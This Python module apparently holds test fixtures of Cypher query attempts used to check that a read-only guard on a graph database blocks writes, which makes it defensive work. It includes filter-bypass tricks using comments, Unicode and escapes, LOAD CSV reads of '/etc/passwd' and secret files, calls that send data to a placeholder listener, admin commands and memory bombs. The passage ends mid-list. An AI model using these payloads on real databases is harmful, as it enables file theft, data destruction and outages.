"""What somebody might send as "just a query": each by its kind, none may do anything but read.

`@HTTP@` stands for a listener that must hear nothing, `@FILE@` and `@NAME@` for a file, by its path
and by its name in the server's import folder, whose content must never be seen.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attempt:
    """One attempt. `may_answer`: harmless where the engine is quick enough to answer it."""

    kind: str
    text: str
    params: Mapping[str, object] = field(default_factory=dict)
    may_answer: bool = False


def _all(kind: str, *texts: str, may_answer: bool = False) -> Iterator[Attempt]:
    for text in texts:
        yield Attempt(kind, text, may_answer=may_answer)


def _writing() -> Iterator[Attempt]:
    yield from _all(
        "writing",
        "CREATE (n)",
        "CREATE (n:Station {id: 'station:evil'})",
        "CREATE (n:Station {id: 'station:evil'}) RETURN n.id AS id",
        "CREATE (a)-[:OPERATED_BY]->(b)",
        "CREATE OR REPLACE (n)",
        "MERGE (n:Station {id: 'station:evil'})",
        "MERGE (n:Station {id: 'station:evil'}) ON CREATE SET n.name = 'x' RETURN n",
        "MERGE (n:Station) ON MATCH SET n.name = 'x'",
        "MERGE (p:LedgerPosition {id: 'ledger_position:head'}) SET p.position = 0",
        "INSERT (n:Station {id: 'station:evil'})",
        "MATCH (n) SET n.name = 'x'",
        "MATCH (n:Station) SET n = {}",
        "MATCH (n:Station) SET n += {name: 'x'}",
        "MATCH (n:Station) SET n += $map",
        "MATCH (n:Station) SET n:Evil",
        "MATCH (n:Station) SET n:$('Evil')",
        "MATCH (n:Station) SET n['name'] = 'x'",
        "MATCH (n:Station) SET n.name = 'x' RETURN count(n) AS c",
        "MATCH ()-[r]->() SET r.x = 1",
        "MATCH (n:Station) REMOVE n.name",
        "MATCH (n:Station) REMOVE n:Station",
        "MATCH (n) DELETE n",
        "MATCH (n) DETACH DELETE n",
        "MATCH (n) NODETACH DELETE n",
        "MATCH ()-[r]->() DELETE r",
        "MATCH p = ()-->() DELETE p",
        "MATCH (n) WITH n LIMIT 1 DETACH DELETE n",
        "OPTIONAL MATCH (n:Nothing) CREATE (m:Evil)",
        "UNWIND range(1, 3) AS i CREATE (n:Evil {i: i})",
        "UNWIND [1] AS i MERGE (n:Evil {i: i}) RETURN n",
        "FOREACH (i IN [1] | CREATE (n:Evil))",
        "MATCH (n) FOREACH (i IN [1] | SET n.x = i)",
        "MATCH p = ()-->() FOREACH (n IN nodes(p) | REMOVE n.name)",
        "MATCH (n:Station) CALL (n) { SET n.x = 1 }",
        "MATCH (n:Station) CALL (n) { SET n.x = 1 RETURN n AS m } RETURN m",
        "MATCH (n:Station) CALL { WITH n DETACH DELETE n } RETURN 1 AS x",
        "CALL { CREATE (n:Evil) RETURN n } RETURN n",
        "CALL () { CALL () { CREATE (n:Evil) RETURN n } RETURN n } RETURN n",
        "MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n",
        "MATCH (n) RETURN COUNT { CREATE (m) RETURN 1 AS x } AS c",
        "MATCH (n) RETURN COLLECT { MERGE (m:Evil) RETURN m } AS c",
        "RETURN [x IN [1] | COLLECT { CALL () { CREATE (m) } RETURN 1 AS y }] AS c",
        "RETURN 1 AS x UNION CREATE (n:Evil) RETURN 2 AS x",
        "RETURN 1 AS x UNION ALL MATCH (n) SET n.x = 1 RETURN 2 AS x",
        "MATCH (n) RETURN n UNION MERGE (n:Evil) RETURN n",
        "MATCH (a:Station), (b:Station) MERGE (a)-[:OPERATED_BY]->(b)",
        "MATCH (n:Station) WITH n ORDER BY n.id LIMIT 1 SET n.name = null RETURN n",
        "RETURN 1 AS x NEXT CREATE (n:Evil)",
        "WHEN true THEN CREATE (n:Evil) ELSE RETURN 1 AS x",
        "{ CREATE (n:Evil) }",
        "MATCH (n) LET x = 1 SET n.x = x",
        "MATCH (n:Station) FILTER true SET n.x = 1",
        "MATCH (n:Station) FINISH CREATE (m)",
    )
    yield Attempt("writing", "MATCH (n:Station) SET n += $map", {"map": {"name": "x"}})
    yield Attempt("writing", "UNWIND $rows AS row CREATE (n) SET n = row", {"rows": [{"id": "x"}]})


def _hidden() -> Iterator[Attempt]:
    yield from _all(
        "hidden",
        "/* reading */ CREATE (n:Evil)",
        "// reading\nCREATE (n:Evil)",
        "MATCH (n) /* RETURN n */ DETACH DELETE n",
        "MATCH (n) // RETURN n\nDETACH DELETE n",
        "MATCH (n) // x\r DETACH DELETE n",
        "MATCH (n) // x\u2028 DETACH DELETE n",
        "MATCH (n) // x\u2029 DETACH DELETE n",
        "MATCH (n) // x\u0085 DETACH DELETE n",
        "MATCH (n) // x\x0b DETACH DELETE n",
        "MATCH (n) // x\x0c DETACH DELETE n",
        "MATCH (n) RETURN n /* /* */ SET n.x = 1 /* */",
        "MATCH (n) /**/SET/**/n.x = 1",
        "MATCH (n) SE/**/T n.x = 1",
        "/*\n*/MERGE/* */(n:Evil)",
        "MATCH (n) SET/*'*/n.x/*'*/= 1",
        "MATCH (n) WHERE n.name = '/*' SET n.x = '*/'",
        "MATCH (n) WHERE n.name = '//' SET n.x = 1",
        'MATCH (n) WHERE n.name = "\'" SET n.x = "\'"',
        "MATCH (n) WHERE n.name = '\\'' SET n.x = '\\''",
        "MATCH (n) WHERE n.name = '\\\\' SET n.x = 1 //'",
        "MATCH (n) WHERE n.name = '\\' RETURN n //' SET n.x = 1",
        "MATCH (n) WHERE n.`a``b` = '`' SET n.x = '`'",
        "MATCH (n:`x``) RETURN n //`) SET n.x = 1",
        "\\u0043REATE (n:Evil)",
        "\\u0043\\u0052\\u0045\\u0041\\u0054\\u0045 (n:Evil)",
        "MATCH (n) \\u0053ET n.x = 1",
        "MATCH (n) RETURN '\\u0027 SET n.x = 1 //' AS x",
        "MATCH (n) WHERE n.name = '\\u0027 DETACH DELETE n //' RETURN n",
        "MATCH (n:`\\u0060) DETACH DELETE n //`) RETURN n",
        "CrEaTe (n:Evil)",
        "match (n) set n.x = 1",
        "mErGe (n:Evil)",
        "ＣＲＥＡＴＥ (n:Evil)",
        "MATCH (n) ＳＥＴ n.x = 1",
        "MATCH (n) \u017fET n.x = 1",  # the long s, an S in upper case
        "MATCH (n) DELETE\u00a0n",
        "MATCH\u3000(n) DETACH\u3000DELETE n",
        "MATCH (n) SET\u200bn.x = 1",
        "MATCH (n) S\u200bET n.x = 1",
        "MATCH (n) \u202eTES n.x = 1",
        "\ufeffCREATE (n:Evil)",
        "MATCH (n) \u2060SET n.x = 1",
        "`CREATE` (n:Evil)",
        "MATCH (n) WHERE n.x=1SET n.x = 1",
        "MATCH (n) WHERE n.x=1e5SET n.x = 1",
        "MATCH (n) WHERE n.x=0xfSET n.x = 1",
        "MATCH (n) WHERE n.x=1.SET n.x = 1",
        "MATCH (n) RETURN n.SET SET n.x = 1",
        "MATCH (n:SET) SET n:MERGE",
        "\tCREATE\t(n:Evil)",
        "\n\n\nCREATE\n(n:Evil)\n",
        "  MATCH (n)\nWHERE true\n\n   SET\n   n.x = 1",
        "MATCH (n) WHERE n.name = 'a' 'b' SET n.x = 1",
        "MATCH (n) RETURN n AS `;` SET n.x = 1",
    )
    # Comments are blanks before anything is sent: the embedded engine answers MATCH by itself.
    yield from _all(
        "hidden",
        "MATCH (n) // \\u000A DETACH DELETE n",
        "MATCH (n) /* \\u002A/ DETACH DELETE n /* */",
        may_answer=True,
    )


def _schema() -> Iterator[Attempt]:
    yield from _all(
        "schema",
        "CREATE INDEX evil FOR (n:Station) ON (n.name)",
        "CREATE RANGE INDEX evil IF NOT EXISTS FOR (n:Station) ON (n.name)",
        "CREATE TEXT INDEX evil FOR (n:Station) ON (n.name)",
        "CREATE POINT INDEX evil FOR (n:Station) ON (n.at)",
        "CREATE FULLTEXT INDEX evil FOR (n:Station) ON EACH [n.name]",
        "CREATE VECTOR INDEX evil FOR (n:Station) ON (n.v)",
        "CREATE LOOKUP INDEX evil FOR (n) ON EACH labels(n)",
        "CREATE INDEX FOR ()-[r:HAS_STATE]-() ON (r.x)",
        "CREATE OR REPLACE INDEX evil FOR (n:Station) ON (n.name)",
        "DROP INDEX evil",
        "DROP INDEX evil IF EXISTS",
        "DROP INDEX ON :Station(id)",
        "CREATE CONSTRAINT evil FOR (n:Station) REQUIRE n.name IS UNIQUE",
        "CREATE CONSTRAINT evil FOR (n:Station) REQUIRE n.name IS NOT NULL",
        "CREATE CONSTRAINT evil FOR (n:Station) REQUIRE n.id IS NODE KEY",
        "CREATE CONSTRAINT evil FOR (n:Station) REQUIRE n.x IS :: STRING",
        "CREATE CONSTRAINT ON (n:Station) ASSERT n.id IS UNIQUE",
        "DROP CONSTRAINT evil",
        "DROP CONSTRAINT station_id IF EXISTS",
        "ALTER CURRENT GRAPH TYPE SET { }",
        "SHOW INDEXES",
        "SHOW CONSTRAINTS",
        "SHOW ONTOLOGY",
    )


def _administration() -> Iterator[Attempt]:
    yield from _all(
        "administration",
        "CREATE USER evil SET PASSWORD 'abcdefgh' CHANGE NOT REQUIRED",
        "CREATE OR REPLACE USER neo4j SET PASSWORD 'abcdefgh'",
        "ALTER USER neo4j SET PASSWORD 'abcdefgh'",
        "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'abcdefgh'",
        "DROP USER neo4j",
        "RENAME USER neo4j TO evil",
        "SHOW USERS",
        "SHOW CURRENT USER",
        "SHOW PRIVILEGES",
        "CREATE ROLE evil",
        "DROP ROLE admin",
        "SHOW ROLES",
        "GRANT ROLE admin TO neo4j",
        "GRANT ALL ON DBMS TO PUBLIC",
        "GRANT LOAD ON ALL DATA TO PUBLIC",
        "DENY READ {*} ON GRAPH * TO PUBLIC",
        "REVOKE ROLE admin FROM neo4j",
        "CREATE DATABASE evil",
        "CREATE COMPOSITE DATABASE evil",
        "DROP DATABASE neo4j",
        "DROP DATABASE neo4j DESTROY DATA",
        "ALTER DATABASE neo4j SET ACCESS READ ONLY",
        "STOP DATABASE neo4j",
        "START DATABASE neo4j",
        "SHOW DATABASES",
        "SHOW DEFAULT DATABASE",
        "SHOW HOME DATABASE",
        "CREATE ALIAS evil FOR DATABASE neo4j",
        "CREATE ALIAS evil FOR DATABASE x AT 'neo4j://evil:7687' USER u PASSWORD 'p'",
        "DROP ALIAS evil FOR DATABASE",
        "SHOW ALIASES FOR DATABASE",
        "ENABLE SERVER 'x'",
        "ALTER SERVER 'x' SET OPTIONS {}",
        "DRYRUN REALLOCATE DATABASES",
        "DEALLOCATE DATABASES FROM SERVER 'x'",
        "SHOW SERVERS",
        "SHOW SETTINGS",
        "SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'directories' RETURN name, value",
        "SHOW TRANSACTIONS",
        "SHOW TRANSACTIONS YIELD currentQuery, parameters RETURN currentQuery, parameters",
        "SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD * RETURN *",
        "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
        "TERMINATE TRANSACTION $t",
        "SHOW FUNCTIONS",
        "SHOW PROCEDURES",
        "SHOW SUPPORTED PRIVILEGES",
        "CREATE AUTH RULE evil SET CONDITION true",
        ":use system",
        ":param x => 1",
        ":exit",
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
    )


def _files() -> Iterator[Attempt]:
    yield from _all(
        "files",
        "LOAD CSV FROM 'file:///@NAME@' AS row RETURN row",
        "LOAD CSV FROM 'file://@FILE@' AS row RETURN row",
        "LOAD CSV FROM '@FILE@' AS row RETURN row",
        "LOAD CSV FROM 'file:@FILE@' AS row RETURN row",
        "LOAD CSV FROM 'FILE://@FILE@' AS row RETURN row",
        "LOAD CSV WITH HEADERS FROM 'file:///@NAME@' AS row RETURN row",
        "LOAD CSV FROM 'file:///../../../../..@FILE@' AS row RETURN row",
        "LOAD CSV FROM 'file:///etc/passwd' AS row FIELDTERMINATOR ':' RETURN row",
        "LOAD CSV FROM '/etc/passwd' AS row FIELDTERMINATOR ':' RETURN row",
        "load csv from '@FILE@' as row return row",
        "LOAD/**/CSV FROM '@FILE@' AS row RETURN row",
        "LOAD\nCSV\nFROM '@FILE@' AS row RETURN row",
        "LOAD // x\n CSV FROM '@FILE@' AS row RETURN row",
        "ＬＯＡＤ CSV FROM '@FILE@' AS row RETURN row",
        "LOAD C\u017fV FROM '@FILE@' AS row RETURN row",
        "\\u004cOAD CSV FROM '@FILE@' AS row RETURN row",
        "LOAD CSV FROM 'http://@HTTP@/load' AS row RETURN row",
        "LOAD CSV WITH HEADERS FROM 'http://@HTTP@/headers' AS row RETURN row",
        "LOAD CSV FROM 'http://' + '@HTTP@' + '/joined' AS row RETURN row",
        "WITH 'http://@HTTP@/with' AS url LOAD CSV FROM url AS row RETURN row",
        "MATCH (n:Station) LOAD CSV FROM 'http://@HTTP@/' + n.id AS row RETURN row",
        "UNWIND ['http://@HTTP@/a'] AS url LOAD CSV FROM url AS row RETURN row",
        "LOAD CSV FROM 'https://@HTTP@/tls' AS row RETURN row",
        "LOAD CSV FROM 'ftp://@HTTP@/ftp' AS row RETURN row",
        "LOAD CSV FROM 's3://bucket/key' AS row RETURN row",
        "LOAD CSV FROM 'jar:http://@HTTP@/x.jar!/y' AS row RETURN row",
        "CALL { LOAD CSV FROM 'http://@HTTP@/call' AS row RETURN row } RETURN row",
        "CALL () { LOAD CSV FROM '@FILE@' AS row RETURN row } RETURN row",
        "RETURN 1 AS row UNION LOAD CSV FROM '@FILE@' AS row RETURN row",
        "RETURN 1 AS row UNION LOAD CSV FROM 'file:///@NAME@' AS row RETURN row",
        "RETURN 1 AS row; LOAD CSV FROM '@FILE@' AS row RETURN row",
        # A plan that shows nothing of what is in the expression: type r, Projection.
        "RETURN [x IN [1] | COLLECT { LOAD CSV FROM 'file:///@NAME@' AS r RETURN r }] AS l",
        "RETURN [x IN [1] | COLLECT { LOAD CSV FROM 'http://@HTTP@/list' AS r RETURN r }] AS l",
        "RETURN CASE WHEN rand() > 2 THEN 1 "
        "ELSE COLLECT { LOAD CSV FROM 'http://@HTTP@/case' AS r RETURN r } END AS l",
        "MATCH (n) WHERE any(x IN [1] WHERE EXISTS { LOAD CSV FROM 'http://@HTTP@/any' AS r "
        "RETURN r }) RETURN n",
        "RETURN reduce(s = [], x IN [1] | s + "
        "COLLECT { LOAD CSV FROM 'http://@HTTP@/reduce' AS r RETURN r }) AS l",
        "MATCH p = (a)-[*1..2]->(b) WHERE all(x IN nodes(p) WHERE "
        "EXISTS { LOAD CSV FROM 'http://@HTTP@/path' AS r RETURN r }) RETURN p",
        "MATCH (n) RETURN [(n)-->(b) | COLLECT { LOAD CSV FROM 'http://@HTTP@/comp' AS r "
        "RETURN r }] AS l",
        "MATCH (n) ORDER BY COUNT { LOAD CSV FROM 'http://@HTTP@/order' AS r RETURN r } RETURN n",
        "LOAD CSV FROM COLLECT { LOAD CSV FROM 'http://@HTTP@/twice' AS r RETURN r }[0] AS r "
        "RETURN r",
        "USING PERIODIC COMMIT 10 LOAD CSV FROM 'http://@HTTP@/periodic' AS row CREATE (n)",
        "RETURN file() AS f, linenumber() AS l",
        "MATCH (n) RETURN n.id AS id FORMAT CSV",
        "COPY (MATCH (n) RETURN n) TO '/tmp/evil.csv'",
        "MATCH (n) RETURN n INTO OUTFILE '/tmp/evil.csv'",
    )
    yield Attempt("files", "LOAD CSV FROM $url AS row RETURN row", {"url": "http://@HTTP@/param"})
    yield Attempt("files", "LOAD CSV FROM $url AS row RETURN row", {"url": "@FILE@"})


def _procedures() -> Iterator[Attempt]:
    calls = (
        "db.createLabel('Evil')",
        "db.createProperty('evil')",
        "db.createRelationshipType('EVIL')",
        "db.create.setNodeVectorProperty(null, 'x', [1])",
        "db.clearQueryCaches()",
        "db.prepareForReplanning()",
        "db.resampleOutdatedIndexes()",
        "db.awaitIndexes(60)",
        "db.ping()",
        "db.info()",
        "db.stats.collect('QUERIES')",
        "db.stats.retrieveAllAnonymized('x')",
        "db.index.fulltext.queryNodes('x', 'y')",
        "db.index.vector.queryNodes('x', 1, [1])",
        "db.index.vector.createNodeIndex('x', 'L', 'p', 3, 'cosine')",
        "db.schema.nodeTypeProperties()",
        "db.schema.visualization()",
        "dbms.listConfig()",
        "dbms.listConfig('server.directories')",
        "dbms.queryJmx('*:*')",
        "dbms.components()",
        "dbms.info()",
        "dbms.killConnections(['bolt-1'])",
        "dbms.killConnection('bolt-1')",
        "dbms.listConnections()",
        "dbms.setConfigValue('x', 'y')",
        "dbms.upgrade()",
        "dbms.security.createUser('evil', 'abcdefgh', false)",
        "dbms.cluster.routing.getRoutingTable({}, 'system')",
        "dbms.scheduler.profile('a', 'b', '1s')",
        "fleetManagement.registerToken('x')",
        "tx.setMetaData({evil: 1})",
        "tx.getMetaData()",
        "apoc.load.json('http://@HTTP@/apoc')",
        "apoc.load.csv('@FILE@')",
        "apoc.cypher.doIt('CREATE (n)', {})",
        "apoc.cypher.runWrite('CREATE (n)', {})",
        "apoc.periodic.iterate('RETURN 1', 'CREATE (n)', {})",
        "apoc.export.csv.all('/tmp/evil.csv', {})",
        "apoc.trigger.add('x', 'CREATE (n)', {})",
        "apoc.systemdb.execute('SHOW USERS', {})",
        "apoc.util.sleep(100000)",
        "genai.vector.encodeBatch(['x'], 'OpenAI', {token: 'x'})",
        "gds.graph.project('g', '*', '*')",
        "n10s.rdf.import.fetch('http://@HTTP@/n10s', 'Turtle')",
        "jwt.security.requestAccess('x')",
        # the embedded engine's own
        "table.upsert({})",
        "table.delete({})",
        "db.cdc.enable({capacity: 10})",
        "db.cdc.disable()",
        "db.ontology.declare({})",
        "db.ontology.clear()",
        "db.temporal.declare({})",
        "db.node_embeddings.set({})",
        "db.node_text_index.build({type: 'Station', text_column: 'name'})",
        "db.embeddings.embed({})",
        "refresh_stats()",
        "pagerank()",
        "outline({root: '/etc'})",
    )
    yield from _all("procedures", *(f"CALL {call}" for call in calls))
    yield from _all(
        "procedures",
        "CALL dbms.listConfig() YIELD name, value RETURN name, value",
        "CALL dbms.listConfig YIELD name RETURN name",
        "OPTIONAL CALL dbms.listConfig() YIELD name RETURN name",
        "CALL `dbms`.`listConfig`() YIELD name RETURN name",
        "CALL dbms/**/./**/listConfig() YIELD name RETURN name",
        "CALL\ndbms\n.\nlistConfig() YIELD name RETURN name",
        "call DBMS.LISTCONFIG()",
        "ＣＡＬＬ dbms.listConfig()",
        "CALL db.labels() YIELD label CALL dbms.listConfig() YIELD name RETURN name",
        "CALL db.labels.x() YIELD label RETURN label",
        "CALL `db.labels() YIELD label CALL dbms.listConfig`() YIELD name RETURN name",
        "MATCH (n) CALL dbms.listConfig() YIELD name RETURN name",
        "CALL () { CALL dbms.listConfig() YIELD name RETURN name } RETURN name",
        "RETURN [x IN [1] | COLLECT { CALL dbms.listConfig() YIELD name RETURN name }] AS l",
        "RETURN [x IN [1] | COLLECT { CALL db.ping() YIELD success RETURN success }] AS l",
        "RETURN CASE WHEN true THEN COLLECT { CALL db.ping() YIELD success RETURN 1 } END AS l",
        "RETURN 1 AS x UNION CALL db.createLabel('Evil') RETURN 2 AS x",
        "MATCH (n) WHERE EXISTS { CALL db.ping() YIELD success RETURN success } RETURN n",
    )


def _functions() -> Iterator[Attempt]:
    yield from _all(
        "functions",
        "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {}) AS x",
        "RETURN apoc.load.jdbc('x', 'y') AS x",
        "RETURN apoc.text.base64Encode('x') AS x",
        "RETURN `apoc`.`cypher`.`runFirstColumn`('RETURN 1', {}, false) AS x",
        "RETURN apoc . version() AS x",
        "RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'}) AS x",
        "RETURN ai.text.embed('x', 'OpenAI', {}) AS x",
        "RETURN graph.names() AS x",
        "RETURN graph.byName('system') AS x",
        "RETURN graph.propertiesByName('neo4j') AS x",
        "RETURN db.nameFromElementId('x') AS x",
        "RETURN gds.util.asNode(1) AS x",
        "RETURN user.defined.function() AS x",
        "RETURN text_score(null, 'a', 'b') AS x",
        "RETURN parse_json('{}') AS x",
        "RETURN vector([1], 1, INTEGER) AS x",
        "RETURN [x IN [1] | apoc.cypher.runFirstColumnSingle('RETURN 1', {})] AS x",
        "MATCH (n) WHERE custom.check(n) RETURN n",
    )


def _databases() -> Iterator[Attempt]:
    yield from _all(
        "databases",
        "USE system SHOW USERS",
        "USE system RETURN 1 AS x",
        "USE neo4j MATCH (n) RETURN n",
        "USE other MATCH (n) RETURN n",
        "USE graph.byName('system') MATCH (n) RETURN n",
        "USE graph.byElementId('4:x:0') MATCH (n) RETURN n",
        "USE `system` MATCH (n) RETURN n",
        "use/**/system match (n) return n",
        "CALL { USE system MATCH (n) RETURN n } RETURN n",
        "CALL () { USE neo4j MATCH (n) RETURN n } RETURN n",
        "RETURN 1 AS n UNION USE system RETURN 2 AS n",
        "MATCH (n) USE system RETURN n",
        "FOR VALID_TIME ALL MATCH (n) RETURN n",
        "FROM system MATCH (n) RETURN n",
    )


def _stacked() -> Iterator[Attempt]:
    yield from _all(
        "stacked",
        "RETURN 1 AS x; CREATE (n:Evil)",
        "RETURN 1 AS x;CREATE (n:Evil)",
        "RETURN 1 AS x;; CREATE (n:Evil)",
        "; CREATE (n:Evil)",
        ";",
        ";;",
        "RETURN 1 AS x;\n\nMATCH (n) DETACH DELETE n;",
        "RETURN 1 AS x; // x\nMATCH (n) DETACH DELETE n",
        "RETURN 1 AS x /* ; */ ; MATCH (n) DETACH DELETE n",
        "RETURN ';' AS x; MATCH (n) DETACH DELETE n",
        "RETURN `;` AS x; MATCH (n) DETACH DELETE n",
        "RETURN 1 AS x; RETURN 2 AS x",
        "RETURN 1 AS x; SHOW USERS",
        "RETURN 1 AS x\uff1b CREATE (n:Evil)",
        "RETURN 1 AS x\u037e CREATE (n:Evil)",
        "RETURN 1 AS x;\\u0043REATE (n:Evil)",
        "RETURN 1 AS x; RETURN 2 AS y;",
        "CREATE (n:Evil); RETURN 1 AS x",
    )


def _prefixes() -> Iterator[Attempt]:
    yield from _all(
        "prefixes",
        "CYPHER 25 CREATE (n:Evil)",
        "CYPHER 25 RETURN 1 AS x",
        "CYPHER 5 RETURN 1 AS x",
        "CYPHER runtime=parallel MATCH (n) RETURN n",
        "CYPHER runtime=interpreted CREATE (n:Evil)",
        "CYPHER planner=dp MATCH (n) RETURN n",
        "CYPHER replan=force MATCH (n) RETURN n",
        "CYPHER debug=tostring MATCH (n) RETURN n",
        "CYPHER 5 EXPLAIN RETURN 1 AS x",
        "cypher 25 set",
        "/* x */ CYPHER 25 MATCH (n) DETACH DELETE n",
        "EXPLAIN CREATE (n:Evil)",
        "EXPLAIN RETURN 1 AS x",
        "EXPLAIN EXPLAIN RETURN 1 AS x",
        "EXPLAIN PROFILE CREATE (n:Evil)",
        "PROFILE CREATE (n:Evil)",
        "PROFILE MATCH (n) RETURN n",
        "PROFILE MATCH (n) SET n.x = 1",
        "profile match (n) detach delete n",
        "EXPLAIN CYPHER 25 CREATE (n:Evil)",
        "PROFILE CYPHER 5 CREATE (n:Evil)",
        "PERIODIC COMMIT 10 MATCH (n) RETURN n",
    )


def _batches() -> Iterator[Attempt]:
    yield from _all(
        "batches",
        "UNWIND [1, 2] AS i CALL (i) { CREATE (n:Evil) } IN TRANSACTIONS",
        "UNWIND [1, 2] AS i CALL (i) { RETURN i AS x } IN TRANSACTIONS RETURN x",
        "UNWIND [1, 2] AS i CALL { WITH i RETURN i AS x } IN TRANSACTIONS OF 1 ROWS RETURN x",
        "UNWIND [1, 2] AS i CALL (i) { RETURN i AS x } IN 3 CONCURRENT TRANSACTIONS RETURN x",
        "UNWIND [1, 2] AS i CALL (i) { MERGE (n:Evil) } IN CONCURRENT TRANSACTIONS OF 2 ROWS "
        "ON ERROR CONTINUE REPORT STATUS AS s RETURN s",
        "MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 100 ROWS",
        "CALL () { RETURN 1 AS x } in/**/transactions RETURN x",
        "CALL () { RETURN 1 AS x } IN TRANSACTION RETURN x",
        "CALL () { RETURN 1 AS x } IN\u00a0TRANSACTIONS RETURN x",
        "RETURN [y IN [1] | COLLECT { CALL () { RETURN 1 AS x } IN TRANSACTIONS RETURN x }] AS l",
        "UNWIND [1] AS i CALL (i) { RETURN i AS x } IN TRANSACTIONS ON ERROR RETRY FOR 60 SECONDS "
        "RETURN x",
    )


def _parameters() -> Iterator[Attempt]:
    reading = "MATCH (n:Station) RETURN n.id AS id LIMIT 1"
    yield Attempt("parameters", "MATCH (n:$($label)) RETURN n", {"label": "Station"})
    yield Attempt("parameters", "MATCH (n:$any($labels)) RETURN n", {"labels": ["Station"]})
    yield Attempt("parameters", "MATCH (n:$all($labels)) RETURN n", {"labels": ["Station"]})
    yield Attempt("parameters", "MATCH ()-[r:$($type)]->() RETURN r", {"type": "HAS_STATE"})
    yield Attempt("parameters", "RETURN $$x AS x", {"x": 1})
    yield Attempt("parameters", "RETURN $`a b` AS x", {"a b": 1})
    yield Attempt("parameters", "RETURN $x AS x")
    yield Attempt("parameters", "MATCH (n) WHERE n.id = $missing RETURN n", {"id": "x"})
    yield Attempt("parameters", reading, {"": 1})
    yield Attempt("parameters", reading, {"1x": 1})
    yield Attempt("parameters", reading, {"x y": 1})
    yield Attempt("parameters", reading, {"x}) DETACH DELETE n //": 1})
    yield Attempt("parameters", reading, {"名": 1})
    yield Attempt("parameters", reading, {"x" * 1000: 1})
    yield Attempt("parameters", "RETURN size($x) AS x", {"x": "y" * 1_000_000})
    yield Attempt("parameters", "RETURN size($x) AS x", {"x": ["y" * 1000] * 1000})
    yield Attempt("parameters", "RETURN $x AS x", {"x": {str(i): i for i in range(20_000)}})
    yield Attempt("parameters", "RETURN $x AS x", {"x": object()})
    yield Attempt("parameters", "RETURN $x AS x", {"x": {1, 2}})
    yield Attempt("parameters", "RETURN $x AS x", {"x": 2**80})
    yield Attempt("parameters", "RETURN $x AS x", {"x": {1: 2}})
    deep: list[object] = []
    for _ in range(2000):
        deep = [deep]
    yield Attempt("parameters", "RETURN $x AS x", {"x": deep})
    # Values that look like code are values.
    yield Attempt(
        "parameters",
        "MATCH (n) WHERE n.id = $rows RETURN n.id AS id",
        {"rows": "x' OR true DETACH DELETE n //"},
        may_answer=True,
    )
    yield Attempt(
        "parameters",
        "MATCH (n) WHERE n.id IN $ids RETURN n.id AS id",
        {"ids": ["'}) DETACH DELETE n //", "\\u0027", "`"]},
        may_answer=True,
    )
    yield Attempt("parameters", "UNWIND $rows AS r RETURN r", {"rows": [None] * 9}, may_answer=True)


LONG = "UNWIND range(1, 1000000000) AS x "
TEN = "[a, a, a, a, a, a, a, a, a, a]"


def _memory() -> Iterator[Attempt]:
    yield from _all(
        "memory",
        LONG + "RETURN collect(x) AS c",
        LONG + "RETURN size(collect([x, x, x, x])) AS c",
        LONG + "RETURN size(collect('x' + x)) AS c",
        LONG + "WITH collect(x) AS l RETURN size(l) AS c",
        LONG + "RETURN x ORDER BY x DESC",
        LONG + "RETURN DISTINCT x % 1000000007 AS x ORDER BY x",
        LONG + "RETURN [x, x] AS k, count(*) AS c ORDER BY c",
        LONG + "RETURN percentileCont(x, 0.5) AS c",
        LONG + "RETURN {a: x, b: [x]} AS m ORDER BY m.a DESC LIMIT 1",
        "RETURN COLLECT { UNWIND range(1, 1000000000) AS i RETURN i } AS c",
        "RETURN range(1, 1000000000) AS c",
        "RETURN range(1, 1000000000000) AS c",
        "RETURN range(0, $n) AS c",
        "RETURN range(-9223372036854775807, 9223372036854775807) AS c",
        "RETURN size(range(1, 2000000000)) AS c",
        "UNWIND range(1, 10) + range(1, 1000000000) AS x RETURN x",
        "WITH range(1, 10000) AS l RETURN toStringList(range(1, 2000000000)) AS c",
        "RETURN reduce(s = 'a', x IN range(1, 60) | s + s) AS c",
        "RETURN reduce(l = [0], x IN range(1, 40) | l + l) AS c",
        "RETURN reduce(m = {}, x IN range(1, 60) | {a: m, b: m}) AS c",
        "WITH 'aaaaaaaaaa' AS a "
        + "WITH a + a + a + a + a + a + a + a + a + a AS a " * 9
        + "RETURN a",
        "WITH 'a' AS a " + "WITH a || a AS a " * 40 + "RETURN size(a) AS c",
        "WITH [1] AS a " + f"WITH {TEN} AS a " * 12 + "RETURN a",
        "WITH [1] AS a " + f"WITH {TEN} AS a " * 12 + "RETURN DISTINCT a",
        "WITH 1 AS a " + "WITH {a: a, b: a, c: a, d: a, e: a, f: a} AS a " * 14 + "RETURN a",
        "WITH {k: [1]} AS m " + "WITH {k: [m.k, m.k, m.k, m.k]} AS m " * 20 + "RETURN m",
        "WITH [1] AS a " + "UNWIND [[a, a, a]] AS a1 WITH [a1, a1, a1] AS a " * 12 + "RETURN a",
        "WITH [1] AS a " + "CALL (a) { RETURN [a, a, a] AS b } WITH b AS a " * 20 + "RETURN a",
        "WITH [1] AS end " + "WITH [end, end, end, end] AS end " * 20 + "RETURN end AS x",
        "WITH 1 AS a " + "UNWIND range(1, 1000) AS i WITH collect(a) AS a " * 6 + "RETURN a",
        "UNWIND range(1, 99999) AS i WITH collect(i) AS l UNWIND range(1, 99999) AS j "
        "RETURN DISTINCT collect(l) AS c",
        "UNWIND range(1, 9999) AS i WITH collect(i) AS l WITH [l] AS k UNWIND k AS x "
        "UNWIND range(1, 9999) AS j RETURN collect(x) AS c",
        "UNWIND range(1, 9999) AS i WITH {k: collect(i)} AS m UNWIND range(1, 9999) AS j "
        "RETURN collect(m.k) AS c",
        "UNWIND range(1, 9999) AS i WITH collect(i) AS l "
        "RETURN COLLECT { MATCH (n), (m) RETURN l } AS c",
        "UNWIND range(1, 9999) AS i WITH collect(i) AS l RETURN [p = (n)-[*1..9]-(m) | l] AS c",
        "WITH range(1, 10000) AS l " + "WITH l + l AS l " * 30 + "RETURN l",
        "WITH range(1, 10000) AS l RETURN [x IN l | l] AS c",
